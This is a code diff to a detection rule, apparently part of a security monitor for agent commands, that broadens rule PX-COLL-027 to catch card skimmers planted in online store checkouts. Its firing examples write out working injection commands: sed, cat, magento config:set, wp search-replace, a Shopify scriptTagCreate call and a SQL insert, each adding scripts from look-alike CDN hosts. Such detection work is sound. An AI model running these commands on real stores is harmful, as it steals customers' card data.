@@ -12,7 +12,7 @@ import { datastoreDump, downstream, personalFolder, secretAt } from './exfiltrat
 import { savedFile } from './command_and_control.js';
 import { windowsTechniques } from '../knowledge/windows.js';
 import { CODE_IDIOMS, scriptsDoing } from '../knowledge/code-idioms.js';
-import { skimmerInjectedBy, skimmerWritten } from '../knowledge/web-apps.js';
+import { skimmerInCall, skimmerInjectedBy, skimmerWritten } from '../knowledge/web-apps.js';
 import { putIn, writes } from './persistence.js';
 
 /** What an archiver is creating: the archive it writes and the inputs it packs. */
@@ -743,21 +743,25 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-COLL-027', name: 'plants-payment-skimmer', score: 85, tactic: 'collection', technique: 'T1056.003',
-    message: "Plants a card skimmer: a script from a host that is no payment or CDN vendor's put into a store's checkout, a temp file appended to a checkout script, or a script from a host wearing a platform's or CDN's name put into a site's settings",
+    message: "Plants a card skimmer: a script from a host that is no payment or CDN vendor's put into a store's checkout, a temp file appended to a checkout script, a script from a host wearing a platform's or CDN's name put into a site's settings or through the store's own API, or a script that sends the card fields or the customer's details out",
     why: 'A script on the checkout page reads every card number, expiry and CVC typed there and sends them to its host (Magecart); put into the store\'s settings or templates it survives deploys of the code.',
     alternative: "Add third-party scripts through the store's reviewed theme code, from the vendor's own domain, with a content security policy.",
     check: (i) => [
       ...writes(i).flatMap((w) => { const host = skimmerWritten(w.canonical, putIn(w), w.cmd?.name === 'cat' && operands(w.cmd).some((p) => inTemp(canonicalPath(p)))); return host ? [`${w.path}: ${host}`] : []; }),
       ...(i.view?.commands ?? []).flatMap((c) => { const host = skimmerInjectedBy(c); return host ? [`${c.argv.slice(0, 3).join(' ')}: a script from ${host}`] : []; }),
+      ...[skimmerInCall(i.call) ?? []].flat(),
     ],
     examples: {
       fire: [
+        { Unknown: { tool_name: 'mcp__shopify__admin_graphql', params: { query: 'mutation scriptTagCreate($input: ScriptTagInput!) { scriptTagCreate(input: $input) { scriptTag { id } } }', variables: { input: { src: 'https://static.jsdelivr-cdnjs.net/npm/perf@2.1.4/loader.min.js', displayScope: 'ALL' } } } } },
+        { Database: { query: `INSERT INTO core_config_data (scope, scope_id, path, value) VALUES ('default', 0, 'design/footer/absolute_footer', '<script src="https://js.magento-analytics.net/ga.js"></script>')` } },
         `sed -i 's|</body>|<script src="https://magento-cdn.store/checkout.js"></script></body>|' app/design/frontend/Acme/luma-child/Magento_Checkout/templates/onepage.phtml`,
         'cat /tmp/sk.js >> wp-content/plugins/woocommerce/assets/js/frontend/checkout.min.js',
         `bin/magento config:set design/footer/absolute_footer '<script src="https://magento-analytics.net/s.js"></script>'`,
         `wp search-replace '</head>' '<script src="https://cdn-jsdelivr.cc/jquery.min.js"></script></head>' wp_posts wp_options --precise`,
       ],
       quiet: [
+        { Unknown: { tool_name: 'mcp__shopify__admin_graphql', params: { query: 'mutation scriptTagCreate($input: ScriptTagInput!) { scriptTagCreate(input: $input) { scriptTag { id } } }', variables: { input: { src: 'https://apps.northwindoutfitters.com/static/reviews-widget.v3.js', displayScope: 'ONLINE_STORE' } } } } },
         `sed -i 's|</body>|<script src="https://js.stripe.com/v3/"></script></body>|' app/design/frontend/Acme/luma-child/Magento_Checkout/templates/onepage.phtml`,
         'cat src/checkout-fixes.js >> wp-content/themes/shop/assets/js/checkout.js',
         `bin/magento config:set design/head/includes '<script src="https://www.googletagmanager.com/gtm.js?id=GTM-X1"></script>'`,
